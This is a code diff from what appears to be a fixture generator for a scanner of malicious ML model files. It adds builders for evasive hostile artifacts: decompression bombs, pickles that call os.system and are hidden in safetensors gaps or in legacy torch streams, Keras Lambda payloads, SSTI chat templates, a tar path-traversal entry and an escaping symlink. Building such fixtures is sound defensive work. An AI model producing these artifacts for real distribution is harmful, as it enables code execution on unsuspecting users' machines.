@@ -294,16 +294,16 @@ malicious(
     "zip_bomb_bzip2",
     "archive",
     "WW-ARC",
-    "zip member expanding ~1e6x (bzip2 of zeros)",
+    "zip member expanding ~5e5x (bzip2 of 64 MiB of zeros)",
 )
 def _zip_bomb(ctx: BuildContext, folder: Path) -> None:
     comp = bz2.BZ2Compressor(9)
     chunk = b"\x00" * (16 << 20)
-    blob = b"".join(comp.compress(chunk) for _ in range(16)) + comp.flush()  # 256 MiB of zeros -> ~200 bytes
+    blob = b"".join(comp.compress(chunk) for _ in range(4)) + comp.flush()  # 64 MiB of zeros -> ~100 bytes
     crc = 0
-    for _ in range(16):
+    for _ in range(4):
         crc = zlib.crc32(chunk, crc)
-    _write_raw_zip_member(folder / "weights.zip", "weights.bin", blob, 16 * len(chunk), crc, method=12)
+    _write_raw_zip_member(folder / "weights.zip", "weights.bin", blob, 4 * len(chunk), crc, method=12)
 
 
 def _write_raw_zip_member(path: Path, name: str, payload: bytes, usize: int, crc: int, method: int) -> None:
@@ -343,7 +343,7 @@ def _write_raw_zip_member(path: Path, name: str, payload: bytes, usize: int, crc
 def _xz_bomb(ctx: BuildContext, folder: Path) -> None:
     comp = lzma.LZMACompressor(preset=0)
     chunk = b"\x00" * (16 << 20)
-    blob = b"".join(comp.compress(chunk) for _ in range(8)) + comp.flush()  # 128 MiB of zeros -> ~20 KB
+    blob = b"".join(comp.compress(chunk) for _ in range(4)) + comp.flush()  # 64 MiB of zeros -> ~10 KB
     (folder / "model.bin.xz").write_bytes(blob)
 
 
@@ -947,3 +947,113 @@ for _kind in (
     malicious(f"hf_ssti_{_kind}", "hf", "WW-TPL", f"tokenizer_config chat_template SSTI evasion: {_kind}")(
         _hf_extra()
     )
+
+
+@malicious(
+    "torch_zip_deflated_data_pkl", "pytorch", "WW-PKL", "torch zip re-packed with deflate-compressed members"
+)
+def _torch_deflate(ctx: BuildContext, folder: Path) -> None:
+    src = torch_save(_poisoned_state(ctx), ctx.dest / ".scratch" / f"{ctx.name}.pt")
+    with zipfile.ZipFile(src) as zin:
+        members = {info.filename: zin.read(info) for info in zin.infolist()}
+    write_zip(folder / "model.pt", members, zipfile.ZIP_DEFLATED)
+
+
+@malicious(
+    "keras_zip_prepended_junk",
+    "keras",
+    "WW-KERAS",
+    ".keras zip with 4 KiB prepended (zipfile still opens it)",
+)
+def _keras_junk(ctx: BuildContext, folder: Path) -> None:
+    inner = write_keras_zip(
+        ctx.dest / ".scratch" / f"{ctx.name}.keras", keras3_sequential([keras3_dense(), _keras3_lambda(ctx)])
+    )
+    (folder / "model.keras").write_bytes(b"\x00JUNK" * 819 + b"\x00" + inner.read_bytes())
+
+
+@malicious("hf_chat_template_json_ssti", "hf", "WW-TPL", "processor chat_template.json with an SSTI template")
+def _hf_ct_json(ctx: BuildContext, folder: Path) -> None:
+    (folder / "chat_template.json").write_text(json.dumps({"chat_template": _ssti("mro_subclasses", ctx)}))
+    (folder / "preprocessor_config.json").write_text(json.dumps({"processor_class": "LlavaProcessor"}))
+
+
+@malicious(
+    "torch_legacy_tar_format",
+    "pytorch",
+    "WW-PKL",
+    "oldest torch.save tar format (sys_info/pickle/storages/tensors)",
+)
+def _torch_tar(ctx: BuildContext, folder: Path) -> None:
+    import pickle
+
+    write_tar(
+        folder / "model.pth",
+        {
+            "sys_info": pickle.dumps(
+                {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2
+            ),
+            "pickle": pickle.dumps({"state": evil(ctx)}, protocol=2),
+            "storages": pickle.dumps(0, protocol=2),
+            "tensors": pickle.dumps(0, protocol=2),
+        },
+    )
+
+
+@malicious(
+    "torch_legacy_payload_in_sys_info",
+    "pytorch",
+    "WW-PKL",
+    "legacy torch file whose sys_info stream is the payload",
+)
+def _torch_sysinfo(ctx: BuildContext, folder: Path) -> None:
+    import pickle
+
+    legacy = torch_save(tiny_state_dict(), ctx.dest / ".scratch" / f"{ctx.name}.pt", legacy=True).read_bytes()
+    # Streams: magic number, protocol version, sys_info, then the object. torch.load unpickles all of them.
+    magic_end = legacy.index(b".") + 1
+    proto_end = legacy.index(b".", magic_end) + 1
+    sys_info_end = legacy.index(b".", legacy.index(b"little_endian", proto_end)) + 1
+    evil_sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": evil(ctx)}, protocol=2)
+    (folder / "model.pt").write_bytes(legacy[:proto_end] + evil_sys_info + legacy[sys_info_end:])
+
+
+@malicious(
+    "st_leading_gap", "safetensors", "WW-ST", "first tensor starts after unused bytes that hide a pickle"
+)
+def _st_lead(ctx: BuildContext, folder: Path) -> None:
+    hidden = call_program(2, Glob("os", "system"), ctx.shell())
+    pad = len(hidden) + (-len(hidden) % 4)
+    _st(folder, {"a": {**_F32x4, "data_offsets": [pad, pad + 16]}}, hidden.ljust(pad, b"\x00") + bytes(16))
+
+
+@malicious(
+    "st_trailing_bytes", "safetensors", "WW-ST", "bytes after the last tensor (a pickle appended to the file)"
+)
+def _st_trail(ctx: BuildContext, folder: Path) -> None:
+    hidden = call_program(2, Glob("os", "system"), ctx.shell())
+    _st(folder, {"a": {**_F32x4, "data_offsets": [0, 16]}}, bytes(16) + hidden)
+
+
+@malicious("st_duplicate_tensor_name", "safetensors", "WW-ST", "header JSON names the same tensor twice")
+def _st_dup(ctx: BuildContext, folder: Path) -> None:
+    header = b'{"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "a": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]}}'
+    _st(folder, header, bytes(32))
+
+
+@malicious(
+    "tar_pax_path_traversal", "archive", "WW-ARC", "PAX header 'path' overriding a harmless name with ../../"
+)
+def _tar_pax(ctx: BuildContext, folder: Path) -> None:
+    data = b"#!/bin/sh\n"
+    with tarfile.open(folder / "bundle.tar", "w", format=tarfile.PAX_FORMAT) as tf:
+        info = tarfile.TarInfo("model/config.json")
+        info.size = len(data)
+        info.pax_headers = {"path": "../../../../tmp/evil.sh"}
+        tf.addfile(info, io.BytesIO(data))
+
+
+@malicious("fs_symlink_dir_outside", "fs", "WW-FS", "symlinked folder pointing outside the model folder")
+def _fs_dir(ctx: BuildContext, folder: Path) -> None:
+    _st_benign(folder)
+    os.symlink("/usr/lib", folder / "extra_weights")
